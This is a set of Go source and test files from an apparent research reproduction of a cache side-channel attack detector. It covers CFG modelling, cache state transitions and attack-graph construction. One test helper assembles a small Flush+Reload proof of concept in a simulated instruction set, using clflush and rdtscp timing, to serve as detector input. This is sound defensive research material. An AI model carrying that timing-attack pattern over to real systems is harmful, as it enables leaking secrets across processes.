	if cst.Before.AO != 0 || cst.Before.IO != 1 {
		t.Errorf("before = %+v, want (0,1)", cst.Before)
	}
	wantAO := 4 / total
	if cst.After.AO != wantAO {
		t.Errorf("after.AO = %v, want %v", cst.After.AO, wantAO)
	}
	if cst.After.IO != 1-wantAO {
		t.Errorf("after.IO = %v, want %v", cst.After.IO, 1-wantAO)
	}
	if cst.Delta() <= 0 {
		t.Error("reload block must change the cache state")
	}
}

func TestMeasureCSTFlushBlock(t *testing.T) {
	sim := cache.MustNew(DefaultMeasureCache())
	total := float64(sim.TotalLines())
	flushes := []uint64{0, 64, 128}
	cst := MeasureCST(sim, nil, flushes)
	if cst.After.AO != 0 {
		t.Errorf("flush block must not gain attacker lines: %+v", cst.After)
	}
	if want := 1 - 3/total; cst.After.IO != want {
		t.Errorf("after.IO = %v, want %v", cst.After.IO, want)
	}
	// Flush signature differs from the reload signature.
	reload := MeasureCST(sim, flushes, nil)
	if reload.After.AO == cst.After.AO {
		t.Error("flush and reload blocks must be distinguishable")
	}
}

func TestMeasureCSTEmptyBlock(t *testing.T) {
	sim := cache.MustNew(DefaultMeasureCache())
	cst := MeasureCST(sim, nil, nil)
	if cst.Delta() != 0 {
		t.Errorf("empty block delta = %v, want 0", cst.Delta())
	}
	if cst.Before != cst.After {
		t.Error("empty block must be an identity transition")
	}
}

func TestMeasureCSTReuseResets(t *testing.T) {
	sim := cache.MustNew(DefaultMeasureCache())
	MeasureCST(sim, []uint64{0, 64}, nil)
	cst := MeasureCST(sim, nil, nil)
	if cst.Before.AO != 0 || cst.Before.IO != 1 {
		t.Errorf("simulator not reset between measurements: %+v", cst.Before)
	}
}

func TestCSTDelta(t *testing.T) {
	c := CST{
		Before: cache.State{AO: 0, IO: 1},
		After:  cache.State{AO: 0.25, IO: 0.5},
	}
	if got := c.Delta(); got != (0.25+0.5)/2 {
		t.Errorf("delta = %v", got)
	}
}

// The running example of Fig 3: nodes a..e = 1..5, attack-relevant
// {a,c,e}, HPC(b)=3. Expected attack-relevant graph (Fig 3(f)):
// edges a->c, a->b, b->e.
func TestBuildAttackGraphFig3(t *testing.T) {
	g := graph.New()
	g.AddEdge(1, 2) // a->b
	g.AddEdge(2, 3) // b->c
	g.AddEdge(1, 3) // a->c
	g.AddEdge(3, 4) // c->d
	g.AddEdge(4, 1) // d->a (back edge)
	g.AddEdge(2, 5) // b->e
	hpc := map[uint64]uint64{1: 9, 2: 3, 3: 5, 5: 4}
	ga := BuildAttackGraph(g, 1, []uint64{1, 3, 5}, hpc, DefaultConfig())

	if !ga.HasEdge(1, 3) {
		t.Error("missing direct edge a->c (weight MAX)")
	}
	if !ga.HasEdge(1, 2) || !ga.HasEdge(2, 5) {
		t.Error("missing restored path a->b->e")
	}
	if ga.HasEdge(2, 3) {
		t.Error("path a->b->c must not be restored (lost to the MAX edge)")
	}
	if ga.HasNode(4) {
		t.Error("d is not part of any chosen path")
	}
	if ga.NumNodes() != 4 {
		t.Errorf("nodes = %v", ga.Nodes())
	}
}

func TestBuildAttackGraphDegenerate(t *testing.T) {
	g := graph.New()
	g.AddEdge(1, 2)
	// Fewer than two relevant blocks: graph contains just those nodes.
	ga := BuildAttackGraph(g, 1, []uint64{1}, nil, DefaultConfig())
	if ga.NumNodes() != 1 || ga.NumEdges() != 0 {
		t.Errorf("singleton graph = %v", ga)
	}
	ga = BuildAttackGraph(g, 1, nil, nil, DefaultConfig())
	if ga.NumNodes() != 0 {
		t.Error("empty relevant set must produce an empty graph")
	}
}

func TestBuildAttackGraphDisconnectedRelevant(t *testing.T) {
	// Two relevant blocks with no connecting path: forest, no edges.
	g := graph.New()
	g.AddEdge(1, 2)
	g.AddEdge(3, 4)
	ga := BuildAttackGraph(g, 1, []uint64{1, 3}, nil, DefaultConfig())
	if ga.NumEdges() != 0 {
		t.Errorf("edges = %d, want 0", ga.NumEdges())
	}
	if !ga.HasNode(1) || !ga.HasNode(3) {
		t.Error("relevant nodes must stay in the graph")
	}
}

// miniFlushReload builds a compact Flush+Reload PoC and its victim for
// pipeline tests. The flush and reload blocks carry ground-truth marks.
func miniFlushReload() (*isa.Program, *isa.Program) {
	const lineSize = 64
	const numLines = 8
	sharedBase := uint64(0x20000000)
	resBase := uint64(0x28000000)

	vb := isa.NewBuilder("mini-victim", 0x800000)
	vb.Mov(isa.R(isa.R1), isa.Imm(int64(sharedBase+3*lineSize))).
		Label("loop").
		Mov(isa.R(isa.R0), isa.Mem(isa.R1, 0)).
		Jmp("loop")
	victim := vb.MustBuild()

	ab := isa.NewBuilder("mini-fr", 0x400000)
	ab.Mov(isa.R(isa.R7), isa.Imm(3)) // monitoring rounds
	ab.Label("round")
	ab.Mov(isa.R(isa.R2), isa.Imm(0))
	ab.Label("lines")
	ab.Mov(isa.R(isa.R1), isa.R(isa.R2)).
		Shl(isa.R(isa.R1), isa.Imm(6)).
		Add(isa.R(isa.R1), isa.Imm(int64(sharedBase)))
	ab.BeginAttack().
		Label("flush").
		Clflush(isa.Mem(isa.R1, 0)).
		EndAttack()
	ab.Mov(isa.R(isa.R3), isa.Imm(30)).
		Label("wait").
		Dec(isa.R(isa.R3)).
		Jne("wait")
	ab.BeginAttack().
		Label("reload").
		Rdtscp(isa.R4).
		Mov(isa.R(isa.R0), isa.Mem(isa.R1, 0)).
		Rdtscp(isa.R5).
		Sub(isa.R(isa.R5), isa.R(isa.R4)).
		EndAttack()
	ab.Lea(isa.R6, isa.MemIdx(isa.RegNone, isa.R2, 8, int64(resBase))).
		Mov(isa.Mem(isa.R6, 0), isa.R(isa.R5))
	ab.Inc(isa.R(isa.R2)).
		Cmp(isa.R(isa.R2), isa.Imm(numLines)).
		Jl("lines")
	ab.Dec(isa.R(isa.R7)).
		Jne("round").
		Hlt()
	return ab.MustBuild(), victim
}

func TestPipelineOnFlushReload(t *testing.T) {
	attack, victim := miniFlushReload()
	m, err := Build(attack, victim, DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	if len(m.PotentialBBs) == 0 {
		t.Fatal("no potential attack-relevant blocks found")
	}
	if len(m.RelevantBBs) == 0 {
		t.Fatal("cache-set overlap filtering removed everything")
	}
	if len(m.RelevantBBs) > len(m.PotentialBBs) {
		t.Error("filtering must not add blocks")
	}
	// The ground-truth flush and reload blocks must be identified.
	identified := make(map[uint64]bool)
	for _, l := range m.IdentifiedBBs() {
		identified[l] = true
	}
	for _, gt := range m.CFG.GroundTruthAttackBlocks() {
		if !identified[gt] {
			t.Errorf("ground-truth attack block %#x not identified", gt)
		}
	}
	// The BBS must be ordered by first execution and contain CSTs with
	// real cache activity.
	if m.BBS.Len() == 0 {
		t.Fatal("empty CST-BBS")
	}
	anyDelta := false
	for i := 1; i < m.BBS.Len(); i++ {
		if m.BBS.Seq[i-1].FirstCycle > m.BBS.Seq[i].FirstCycle &&
			m.BBS.Seq[i].FirstCycle != 0 {
			// Only executed blocks are time-ordered; path-restored blocks
			// trail behind.
			if m.BBS.Seq[i].HPCValue > 0 {
				t.Error("BBS not ordered by first execution")
			}
		}
		if m.BBS.Seq[i].Delta() > 0 {
			anyDelta = true
		}
	}
	if !anyDelta {
		t.Error("no CST in the BBS changes the cache state")
	}
	// Each CST carries a normalized instruction sequence.
	for _, c := range m.BBS.Seq {
		if len(c.NormInsns) == 0 {
			t.Errorf("block %#x has no normalized instructions", c.Leader)
		}
	}
}

func TestPipelineReducesBlocks(t *testing.T) {
	attack, victim := miniFlushReload()
	m, err := Build(attack, victim, DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	if got, total := len(m.IdentifiedBBs()), m.CFG.NumBlocks(); got >= total {
		t.Errorf("no reduction: identified %d of %d blocks", got, total)
	}
}

func TestPipelineBenignProgram(t *testing.T) {
	// A pure compute loop over a tiny working set: it has cache traffic
	// (cold misses) but no flush/reload-style multi-block set reuse
	// beyond its own accesses, so its model is small and its CSTs bland.
	b := isa.NewBuilder("benign", 0x400000)
	buf := b.Bytes("buf", 256, false)
	b.Mov(isa.R(isa.R0), isa.Imm(0)).
		Mov(isa.R(isa.R2), isa.Imm(0)).
		Label("loop").
		Mov(isa.R(isa.R1), isa.MemIdx(isa.R3, isa.R0, 8, int64(buf))).
		Add(isa.R(isa.R2), isa.R(isa.R1)).
		Inc(isa.R(isa.R0)).
		Cmp(isa.R(isa.R0), isa.Imm(32)).
		Jl("loop").
		Hlt()
	p := b.MustBuild()
	m, err := Build(p, nil, DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	if m.BBS == nil {
		t.Fatal("benign model must still produce a BBS value")
	}
	// A benign program's model must be small.
	if m.BBS.Len() > m.CFG.NumBlocks() {
		t.Error("model larger than program")
	}
}

func TestBuildRejectsBadPrograms(t *testing.T) {
	if _, err := Build(nil, nil, DefaultConfig()); err == nil {
		t.Error("nil program must fail")
	}
	bad := &isa.Program{Name: "bad"}
	if _, err := Build(bad, nil, DefaultConfig()); err == nil {
		t.Error("invalid program must fail")
	}
}

func TestConfigDefaults(t *testing.T) {
	var c Config
	d := c.withDefaults()
	if d.MeasureCache.Sets == 0 || d.MaxPathsPerPair == 0 || d.MaxPathLen == 0 || d.MaxWeight == 0 {
		t.Errorf("defaults not applied: %+v", d)
	}
}

func TestModelDeterminism(t *testing.T) {
	attack, victim := miniFlushReload()
	build := func() *Model {
		m, err := Build(attack, victim, DefaultConfig())
		if err != nil {
			t.Fatal(err)
		}
		return m
	}
	a, b := build(), build()
	if a.BBS.Len() != b.BBS.Len() {
		t.Fatalf("nondeterministic BBS length: %d vs %d", a.BBS.Len(), b.BBS.Len())
	}
	for i := range a.BBS.Seq {
		x, y := a.BBS.Seq[i], b.BBS.Seq[i]
		if x.Leader != y.Leader || x.Before != y.Before || x.After != y.After {
			t.Fatalf("CST %d differs between runs", i)
		}
	}
}

func TestPathWeight(t *testing.T) {
	hpc := map[uint64]uint64{2: 4, 3: 8}
	if got := pathWeight([]uint64{1, 5}, hpc, 100); got != 100 {
		t.Errorf("direct edge weight = %v, want MAX", got)
	}
	if got := pathWeight([]uint64{1, 2, 3, 5}, hpc, 100); got != 6 {
		t.Errorf("interior avg = %v, want 6", got)
	}
	if got := pathWeight([]uint64{1, 9, 5}, hpc, 100); got != 0 {
		t.Errorf("unknown interior = %v, want 0", got)
	}
}

func TestBuildUsesExecConfig(t *testing.T) {
	attack, victim := miniFlushReload()
	cfg := DefaultConfig()
	cfg.Exec = exec.DefaultConfig()
	cfg.Exec.MaxRetired = 50 // far too small to finish
	m, err := Build(attack, victim, cfg)
	if err != nil {
		t.Fatal(err)
	}
	// Truncated run: model may be tiny but must not error.
	if m == nil {
		t.Fatal("nil model")
	}
}
