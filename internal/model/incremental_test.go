package model

import (
	"context"
	"reflect"
	"testing"

	"repro/internal/attacks"
	"repro/internal/exec"
)

// collect runs a PoC with the default machine and returns the trace plus
// the LLC configuration it ran under.
func collect(t *testing.T, poc attacks.PoC) (*exec.Trace, *exec.Machine) {
	t.Helper()
	m, err := exec.NewMachine(exec.DefaultConfig(), poc.Program, poc.Victim)
	if err != nil {
		t.Fatal(err)
	}
	return m.Run(), m
}

// TestWindowBuilderMatchesBuildFromTrace pins the WindowBuilder
// contract: for identical inputs its result is indistinguishable from a
// fresh BuildFromTrace — the cached CFG and memoized normalization are
// pure optimizations.
func TestWindowBuilderMatchesBuildFromTrace(t *testing.T) {
	p := attacks.DefaultParams()
	for _, poc := range []attacks.PoC{
		attacks.FlushReloadIAIK(p),
		attacks.PrimeProbeIAIK(p),
	} {
		t.Run(poc.Name, func(t *testing.T) {
			trace, machine := collect(t, poc)
			llc := machine.Hierarchy().LLC().Config()
			want, err := BuildFromTrace(poc.Program, trace, llc, DefaultConfig())
			if err != nil {
				t.Fatal(err)
			}
			wb, err := NewWindowBuilder(poc.Program, llc, DefaultConfig())
			if err != nil {
				t.Fatal(err)
			}
			// Build twice: the first run populates the normalization memo,
			// the second exercises the memo-hit path. Both must match the
			// one-shot build exactly.
			for i := 0; i < 2; i++ {
				got, err := wb.Build(context.Background(), trace)
				if err != nil {
					t.Fatal(err)
				}
				if !reflect.DeepEqual(got.BBS, want.BBS) {
					t.Fatalf("build %d: BBS diverges from BuildFromTrace", i)
				}
				if !reflect.DeepEqual(got.RelevantBBs, want.RelevantBBs) {
					t.Fatalf("build %d: relevant BBs diverge", i)
				}
			}
		})
	}
}

// TestWindowBuilderRejectsNil covers the error paths.
func TestWindowBuilderRejectsNil(t *testing.T) {
	if _, err := NewWindowBuilder(nil, DefaultMeasureCache(), DefaultConfig()); err == nil {
		t.Fatal("nil program accepted")
	}
	p := attacks.DefaultParams()
	poc := attacks.FlushReloadIAIK(p)
	_, machine := collect(t, poc)
	wb, err := NewWindowBuilder(poc.Program, machine.Hierarchy().LLC().Config(), DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	if _, err := wb.Build(context.Background(), nil); err == nil {
		t.Fatal("nil trace accepted")
	}
}
