package model

import (
	"context"
	"fmt"

	"repro/internal/cache"
	"repro/internal/cfg"
	"repro/internal/exec"
	"repro/internal/isa"
)

// WindowBuilder models one program against successive trace slices
// without redoing per-program work. The sliding-window detector
// (internal/window) rebuilds a CST-BBS for every window of one
// execution; two pipeline inputs depend only on the static program, not
// on the trace, and are computed once here:
//
//   - the CFG (recovered at construction and reused for every window);
//   - block instruction-sequence normalization (the IS of Section
//     III-B1), memoized per leader on first use.
//
// Everything trace-dependent — HPC folding, overlap filtering,
// Algorithm 1, CST measurement — runs per window, because a window's
// model genuinely differs from the full-trace model.
//
// A WindowBuilder is NOT safe for concurrent use: the normalization
// memo is a plain map. The window detector builds windows sequentially
// (windows of one trace are inherently ordered), so this costs nothing.
type WindowBuilder struct {
	prog   *isa.Program
	cfg    *cfg.CFG
	llc    cache.Config
	config Config
	norms  map[uint64][]string
}

// NewWindowBuilder recovers the CFG of prog and prepares for repeated
// trace builds. llc is the LLC configuration the traces were (or will
// be) collected under — it defines the set-index function of the
// overlap filter, exactly as in BuildFromTrace.
func NewWindowBuilder(prog *isa.Program, llc cache.Config, config Config) (*WindowBuilder, error) {
	if prog == nil {
		return nil, fmt.Errorf("model: program is nil")
	}
	config = config.withDefaults()
	c, err := cfg.Build(prog)
	if err != nil {
		return nil, fmt.Errorf("model: cfg: %w", err)
	}
	return &WindowBuilder{
		prog:   prog,
		cfg:    c,
		llc:    llc,
		config: config,
		norms:  make(map[uint64][]string),
	}, nil
}

// CFG exposes the cached control-flow graph.
func (b *WindowBuilder) CFG() *cfg.CFG { return b.cfg }

// Build models the program's behavior over one trace slice. The result
// is identical to BuildFromTrace(prog, trace, llc, config) for the same
// inputs (TestWindowBuilderMatchesBuildFromTrace pins this); only the
// repeated static work is skipped.
func (b *WindowBuilder) Build(ctx context.Context, trace *exec.Trace) (*Model, error) {
	if trace == nil {
		return nil, fmt.Errorf("model: trace is nil")
	}
	return buildFromTraceWith(ctx, b.prog, b.cfg, trace, b.llc, b.config, b.normOf)
}

// normOf memoizes normalizeBlock per leader.
func (b *WindowBuilder) normOf(bb *cfg.BasicBlock) []string {
	if n, ok := b.norms[bb.Leader]; ok {
		return n
	}
	n := isa.NormalizeSeq(bb.Insns)
	b.norms[bb.Leader] = n
	return n
}
