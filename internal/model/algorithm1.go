package model

import "repro/internal/graph"

// BuildAttackGraph implements Algorithm 1 of the paper: given the CFG's
// digraph g with entry block entry, the identified attack-relevant
// blocks N and per-block HPC values, it
//
//  1. removes back edges to make the CFG loop-free,
//  2. for every pair of relevant blocks enumerates the CFG paths that do
//     not pass through any other relevant block, scoring each path by
//     the average HPC value of its interior blocks (MAX when the blocks
//     are directly connected),
//  3. computes a maximum spanning tree of the resulting weighted graph,
//  4. restores the labeled path of every chosen edge into the
//     attack-relevant graph G_A.
//
// The result connects all relevant blocks along the most attack-
// correlated control-flow paths, pulling in intermediate blocks that had
// no cache traffic themselves but are part of the attack's control flow.
func BuildAttackGraph(g *graph.Digraph, entry uint64, relevant []uint64, hpcByBB map[uint64]uint64, config Config) *graph.Digraph {
	config = config.withDefaults()
	ga := graph.New()
	for _, n := range relevant {
		ga.AddNode(n)
	}
	if len(relevant) < 2 {
		return ga
	}

	// Line 1: eliminate cycles.
	acyclic := g.RemoveBackEdges(entry)

	relevantSet := make(map[uint64]bool, len(relevant))
	for _, n := range relevant {
		relevantSet[n] = true
	}

	// Lines 3-5: build the weighted path graph G'.
	var wedges []graph.WEdge
	for _, vi := range relevant {
		for _, vj := range relevant {
			if vi == vj {
				continue
			}
			paths := acyclic.SimplePaths(vi, vj, relevantSet, config.MaxPathsPerPair, config.MaxPathLen)
			for _, p := range paths {
				w := pathWeight(p, hpcByBB, config.MaxWeight)
				wedges = append(wedges, graph.WEdge{From: vi, To: vj, Weight: w, Path: p})
			}
		}
	}

	// Line 7: maximum spanning tree (forest when G' is disconnected).
	mst := graph.MaximumSpanningForest(relevant, wedges)

	// Lines 8-9: restore the labeled paths into G_A.
	for _, e := range mst {
		for i := 1; i < len(e.Path); i++ {
			ga.AddEdge(e.Path[i-1], e.Path[i])
		}
	}
	return ga
}

// pathWeight evaluates V_p: the average HPC value of the path's interior
// blocks, or MAX for a direct edge.
func pathWeight(path []uint64, hpcByBB map[uint64]uint64, maxWeight float64) float64 {
	if len(path) <= 2 {
		return maxWeight
	}
	var sum float64
	for _, v := range path[1 : len(path)-1] {
		sum += float64(hpcByBB[v])
	}
	return sum / float64(len(path)-2)
}
