package model

import (
	"sync"
	"testing"
)

func flatBBS(blocks ...[]string) *CSTBBS {
	s := &CSTBBS{Name: "t"}
	for _, b := range blocks {
		s.Seq = append(s.Seq, CST{NormInsns: b})
	}
	return s
}

// FlattenBBS must reproduce every block through an injective mapping:
// equal tokens share a symbol, distinct tokens never do, and Block(i)
// decodes back to Seq[i].NormInsns token for token.
func TestFlattenBBSRoundtrip(t *testing.T) {
	tab := NewSymTab()
	s := flatBBS(
		[]string{"mov reg, mem", "clflush mem"},
		nil,
		[]string{"clflush mem", "clflush mem", "rdtscp reg"},
	)
	f, ok := FlattenBBS(s, tab)
	if !ok {
		t.Fatal("flatten failed on a tiny model")
	}
	if got, want := len(f.Off), s.Len()+1; got != want {
		t.Fatalf("offsets = %d, want %d", got, want)
	}
	sym := map[string]uint32{}
	rev := map[uint32]string{}
	for i, c := range s.Seq {
		blk := f.Block(i)
		if len(blk) != len(c.NormInsns) {
			t.Fatalf("block %d length %d, want %d", i, len(blk), len(c.NormInsns))
		}
		for k, tok := range c.NormInsns {
			if prev, seen := sym[tok]; seen && prev != blk[k] {
				t.Fatalf("token %q got symbols %d and %d", tok, prev, blk[k])
			}
			if prevTok, seen := rev[blk[k]]; seen && prevTok != tok {
				t.Fatalf("symbol %d maps to %q and %q — not injective", blk[k], prevTok, tok)
			}
			sym[tok] = blk[k]
			rev[blk[k]] = tok
		}
	}
	if tab.Len() != len(sym) {
		t.Errorf("table holds %d symbols, saw %d distinct tokens", tab.Len(), len(sym))
	}
}

// Two models flattened through one shared table must agree on symbols
// for shared tokens — the property that lets the scan engine compare
// any target block against any repository block by symbol.
func TestFlattenBBSSharedTable(t *testing.T) {
	tab := NewSymTab()
	a, _ := FlattenBBS(flatBBS([]string{"x", "y"}), tab)
	b, _ := FlattenBBS(flatBBS([]string{"y", "x", "z"}), tab)
	if a.Block(0)[0] != b.Block(0)[1] || a.Block(0)[1] != b.Block(0)[0] {
		t.Errorf("shared tokens disagree: a=%v b=%v", a.Block(0), b.Block(0))
	}
	if b.Block(0)[2] == a.Block(0)[0] || b.Block(0)[2] == a.Block(0)[1] {
		t.Errorf("fresh token aliases an existing symbol: %v", b.Block(0))
	}
}

func TestSymTabIntern(t *testing.T) {
	tab := NewSymTab()
	s1, ok := tab.Intern("a")
	if !ok {
		t.Fatal("intern failed")
	}
	s2, _ := tab.Intern("b")
	s3, _ := tab.Intern("a")
	if s1 == s2 {
		t.Error("distinct tokens share a symbol")
	}
	if s1 != s3 {
		t.Error("equal tokens got distinct symbols")
	}
	if tab.Len() != 2 {
		t.Errorf("Len = %d, want 2", tab.Len())
	}
}

// Concurrent interning of an overlapping token set must stay injective.
func TestSymTabConcurrent(t *testing.T) {
	tab := NewSymTab()
	toks := []string{"a", "b", "c", "d", "e", "f", "g", "h"}
	var wg sync.WaitGroup
	got := make([][]uint32, 8)
	for w := 0; w < 8; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			syms := make([]uint32, len(toks))
			for i, tok := range toks {
				syms[i], _ = tab.Intern(tok)
			}
			got[w] = syms
		}(w)
	}
	wg.Wait()
	for w := 1; w < 8; w++ {
		for i := range toks {
			if got[w][i] != got[0][i] {
				t.Fatalf("worker %d: token %q symbol %d != %d", w, toks[i], got[w][i], got[0][i])
			}
		}
	}
	if tab.Len() != len(toks) {
		t.Errorf("table holds %d symbols, want %d", tab.Len(), len(toks))
	}
}
