package model

import "repro/internal/cache"

// MeasureCST measures the cache state transition of one basic block in
// the dedicated cache simulator, reproducing the scenario of
// Section III-A3: initially the cache is completely full of non-attack
// data (IO=1, AO=0); the block's recorded memory accesses are then fed
// as the attack program and the resulting occupancy change observed.
//
// lines are the line addresses the block loaded or stored; flushLines
// are the lines it flushed (fed as clflush operations). Lines the block
// will touch are installed as victim-owned data first, so a reload turns
// IO-occupancy into AO-occupancy and a flush empties lines — the two
// signatures that distinguish flush-style, evict-style and probe-style
// blocks.
//
// The simulator cache is reset before measurement; the same cache value
// may be reused across calls.
func MeasureCST(sim *cache.Cache, lines, flushLines []uint64) CST {
	const (
		attacker cache.Owner = 0
		other    cache.Owner = 1
	)
	sim.InvalidateAll()
	sim.FillAll(other)
	// Install the block's working set as present, other-owned lines so
	// flush/reload semantics act on real occupants.
	for _, l := range lines {
		sim.Access(l, other)
	}
	for _, l := range flushLines {
		sim.Access(l, other)
	}

	before := sim.Occupancy(attacker)
	for _, l := range lines {
		sim.Access(l, attacker)
	}
	for _, l := range flushLines {
		sim.Flush(l)
	}
	after := sim.Occupancy(attacker)
	return CST{Before: before, After: after}
}
