package model

import "sync"

// The flattened CST-BBS representation behind the scan engine's
// allocation-free comparison kernel (internal/scan, docs/PERFORMANCE.md):
// every normalized instruction token is interned to a dense uint32
// symbol through a shared SymTab, and a model's blocks become one
// contiguous symbol array plus offsets. The Levenshtein term then
// compares machine words instead of strings, with no per-block slice
// headers or string data chased through the heap.
//
// The mapping is injective — two tokens share a symbol exactly when the
// strings are equal — so an edit distance over symbols equals the edit
// distance over the original token sequences, and the flattened path is
// bit-identical to the string path it replaces.

// maxSymbols caps the symbol table. The normalized instruction
// vocabulary is tiny by construction (opcode × {reg,imm,mem}² shapes,
// see isa.Normalize), so the cap exists only so hand-built or
// wire-received models with pathological tokens cannot grow the table
// without bound; once full, Intern reports failure and callers fall
// back to the string path.
const maxSymbols = 1 << 20

// SymTab interns normalized instruction tokens to dense uint32 symbols.
// All methods are safe for concurrent use.
type SymTab struct {
	mu   sync.RWMutex
	syms map[string]uint32
}

// NewSymTab returns an empty symbol table.
func NewSymTab() *SymTab {
	return &SymTab{syms: make(map[string]uint32)}
}

// Intern returns the symbol for tok, assigning the next dense id on
// first sight. ok is false when the table is full and tok is new; equal
// tokens always receive equal symbols.
func (t *SymTab) Intern(tok string) (sym uint32, ok bool) {
	t.mu.RLock()
	sym, ok = t.syms[tok]
	t.mu.RUnlock()
	if ok {
		return sym, true
	}
	t.mu.Lock()
	defer t.mu.Unlock()
	if sym, ok = t.syms[tok]; ok {
		return sym, true
	}
	if len(t.syms) >= maxSymbols {
		return 0, false
	}
	sym = uint32(len(t.syms))
	t.syms[tok] = sym
	return sym, true
}

// Len returns the number of distinct tokens interned.
func (t *SymTab) Len() int {
	t.mu.RLock()
	defer t.mu.RUnlock()
	return len(t.syms)
}

// FlatBBS is the flattened form of one CSTBBS: the symbols of every
// block's normalized instruction sequence laid out contiguously, with
// Off delimiting blocks (block i is Syms[Off[i]:Off[i+1]]). Immutable
// after FlattenBBS and safe to share across goroutines.
type FlatBBS struct {
	Syms []uint32
	Off  []int32
}

// FlattenBBS interns every token of s through tab and returns the
// contiguous form. ok is false — and the FlatBBS nil — when the table
// filled up mid-flatten; callers keep the string representation for
// such models.
func FlattenBBS(s *CSTBBS, tab *SymTab) (*FlatBBS, bool) {
	total := 0
	for i := range s.Seq {
		total += len(s.Seq[i].NormInsns)
	}
	f := &FlatBBS{
		Syms: make([]uint32, 0, total),
		Off:  make([]int32, 1, s.Len()+1),
	}
	for i := range s.Seq {
		for _, tok := range s.Seq[i].NormInsns {
			sym, ok := tab.Intern(tok)
			if !ok {
				return nil, false
			}
			f.Syms = append(f.Syms, sym)
		}
		f.Off = append(f.Off, int32(len(f.Syms)))
	}
	return f, true
}

// Block returns block i's symbol sequence (a view into Syms; do not
// mutate).
func (f *FlatBBS) Block(i int) []uint32 {
	return f.Syms[f.Off[i]:f.Off[i+1]]
}
