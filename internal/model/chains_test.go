package model

import (
	"testing"

	"repro/internal/attacks"
	"repro/internal/graph"
	"repro/internal/mutate"
)

func execCounts(m map[uint64]uint64) func(uint64) uint64 {
	return func(n uint64) uint64 { return m[n] }
}

func TestStraightChainsMergesEqualCounts(t *testing.T) {
	// 1 -> 2 -> 3 with equal counts: one chain.
	g := graph.New()
	g.AddEdge(1, 2)
	g.AddEdge(2, 3)
	chains := straightChains(g, execCounts(map[uint64]uint64{1: 5, 2: 5, 3: 5}))
	if len(chains) != 1 || len(chains[0]) != 3 {
		t.Fatalf("chains = %v", chains)
	}
}

func TestStraightChainsSplitsOnCountChange(t *testing.T) {
	// 1 -> 2 -> 3 where 2 executes more often (a loop body): split.
	g := graph.New()
	g.AddEdge(1, 2)
	g.AddEdge(2, 3)
	chains := straightChains(g, execCounts(map[uint64]uint64{1: 1, 2: 10, 3: 1}))
	if len(chains) != 3 {
		t.Fatalf("chains = %v, want 3 singletons", chains)
	}
}

func TestStraightChainsSplitsOnBranch(t *testing.T) {
	// Diamond: 1 -> {2,3} -> 4; no merges across the branch/join.
	g := graph.New()
	g.AddEdge(1, 2)
	g.AddEdge(1, 3)
	g.AddEdge(2, 4)
	g.AddEdge(3, 4)
	chains := straightChains(g, execCounts(map[uint64]uint64{1: 2, 2: 1, 3: 1, 4: 2}))
	if len(chains) != 4 {
		t.Fatalf("chains = %v, want 4 singletons", chains)
	}
}

func TestStraightChainsZeroCountNeverMerges(t *testing.T) {
	g := graph.New()
	g.AddEdge(1, 2)
	chains := straightChains(g, execCounts(map[uint64]uint64{}))
	if len(chains) != 2 {
		t.Fatalf("chains = %v, want 2 (zero counts must not merge)", chains)
	}
}

func TestStraightChainsCoversEveryNode(t *testing.T) {
	g := graph.New()
	g.AddEdge(1, 2)
	g.AddEdge(2, 3)
	g.AddEdge(3, 1) // cycle: defensive path
	g.AddNode(9)
	chains := straightChains(g, execCounts(map[uint64]uint64{1: 1, 2: 1, 3: 1, 9: 1}))
	seen := map[uint64]int{}
	for _, c := range chains {
		for _, n := range c {
			seen[n]++
		}
	}
	for _, n := range []uint64{1, 2, 3, 9} {
		if seen[n] != 1 {
			t.Errorf("node %d appears %d times", n, seen[n])
		}
	}
}

func TestDedupSorted(t *testing.T) {
	got := dedupSorted([]uint64{5, 1, 5, 3, 1})
	want := []uint64{1, 3, 5}
	if len(got) != len(want) {
		t.Fatalf("dedup = %v", got)
	}
	for i := range want {
		if got[i] != want[i] {
			t.Fatalf("dedup = %v", got)
		}
	}
	if out := dedupSorted(nil); len(out) != 0 {
		t.Error("empty input must stay empty")
	}
}

// The chain-merge invariant the E4 robustness relies on: an obfuscated
// variant's model length stays close to the original's.
func TestObfuscationKeepsModelCompact(t *testing.T) {
	poc := attacks.FlushReloadIAIK(attacks.DefaultParams())
	orig, err := Build(poc.Program, poc.Victim, DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	grew := 0
	const trials = 4
	for seed := int64(0); seed < trials; seed++ {
		obf, err := mutate.Mutate(poc.Program, mutate.ObfuscationConfig(seed))
		if err != nil {
			t.Fatal(err)
		}
		m, err := Build(obf, poc.Victim, DefaultConfig())
		if err != nil {
			t.Fatal(err)
		}
		if m.BBS.Len() > orig.BBS.Len()*2 {
			grew++
		}
	}
	if grew > 1 {
		t.Errorf("chain merging failed to absorb junk splits in %d/%d trials", grew, trials)
	}
}

// Table-IV invariants over the full canonical corpus.
func TestIdentificationInvariantsAllPoCs(t *testing.T) {
	for _, poc := range attacks.All(attacks.DefaultParams()) {
		m, err := Build(poc.Program, poc.Victim, DefaultConfig())
		if err != nil {
			t.Fatalf("%s: %v", poc.Name, err)
		}
		bb := m.CFG.NumBlocks()
		iab := len(m.IdentifiedBBs())
		if iab > bb {
			t.Errorf("%s: IAB %d > BB %d", poc.Name, iab, bb)
		}
		if len(m.RelevantBBs) > len(m.PotentialBBs) {
			t.Errorf("%s: relevant > potential", poc.Name)
		}
		// Every relevant block is a node of the attack graph.
		nodes := make(map[uint64]bool)
		for _, n := range m.IdentifiedBBs() {
			nodes[n] = true
		}
		for _, r := range m.RelevantBBs {
			if !nodes[r] {
				t.Errorf("%s: relevant block %#x missing from attack graph", poc.Name, r)
			}
		}
		// BBS entries reference graph nodes and are time-ordered among
		// executed entries.
		for i, c := range m.BBS.Seq {
			if !nodes[c.Leader] {
				t.Errorf("%s: BBS[%d] leader %#x not in graph", poc.Name, i, c.Leader)
			}
		}
	}
}
