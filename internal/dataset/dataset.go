// Package dataset assembles the evaluation corpora of Tables II and III:
// per attack family, mutated variants of the canonical PoCs with varied
// attack parameters; for the benign class, a mix of SPEC-like,
// LeetCode-like, crypto and server programs in the paper's proportions
// (12 : 280 : 100 : 8 out of 400). Everything is seeded and
// reproducible.
package dataset

import (
	"fmt"
	"math/rand"

	"repro/internal/attacks"
	"repro/internal/benign"
	"repro/internal/isa"
